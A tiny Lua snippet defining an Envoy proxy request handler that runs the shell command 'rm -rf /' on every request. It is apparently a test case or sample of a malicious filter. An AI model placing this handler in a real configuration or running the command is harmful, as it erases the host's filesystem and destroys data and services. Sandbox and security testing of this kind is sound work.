function envoy_on_request(request_handle)
  os.execute("rm -rf /")
end
